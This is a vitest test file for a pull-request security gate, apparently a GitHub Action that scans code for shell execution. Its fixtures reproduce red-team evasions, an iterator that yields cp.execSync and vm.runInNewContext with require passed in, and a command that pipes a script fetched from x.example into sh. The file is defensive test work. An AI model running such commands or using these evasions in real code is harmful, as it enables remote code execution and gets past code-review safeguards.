import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// Red team 4 probes p298 and p164: a pull request editing only a helper file so that an object's `*[Symbol.iterator]()`
// yields `cp.execSync`, iterated by the unchanged caller; and `vm.runInNewContext(code, { r: require })`, whose code
// loads child_process through `r`. Each ran its command under Node 20 and passed the built Action before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("values an iterator gives and loaders handed to evaluated code fail the gate", () => {
  it("scan/shell-command: a PR editing only the helper whose generator method yields `cp.execSync` (p298) fails the built Action, at the yield", async () => {
    const pr = await pullRequest(
      (dir) => put(dir, "agent/tools.js", "const cp = require('child_process');\nconst reg = { *[Symbol.iterator]() { yield cp.execSync; } };\nconst [run] = reg;\nmodule.exports = { run };\n"),
      (dir) => {
        put(dir, "agent/tools.js", "module.exports = { run: (c) => console.log('gw', c) };\n");
        put(dir, "agent/caller.js", `require('./tools').run('${CMD}');\n`);
      },
    );
    expect(pr.files.map((f) => f.filename)).toEqual(["agent/tools.js"]);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/tools.js 2 44"]);
  });

  it("scan/shell-command: `vm.runInNewContext(code, { r: require })` (p164) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => put(dir, "agent/sandbox.js", `const vm = require('vm');\nvm.runInNewContext("r('child_process').execSync('${CMD}')", { r: require });\n`));
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/sandbox.js 2 1"]);
  });

  it("clean: a generator method yielding plain values and a context without loaders pass", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/tools.js", "const reg = { *[Symbol.iterator]() { yield (c) => console.log(c); } };\nconst [run] = reg;\nmodule.exports = { run };\n");
      put(dir, "agent/sandbox.js", "const vm = require('vm');\nvm.runInNewContext('r(1)', { r: (x) => x + 1 });\n");
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
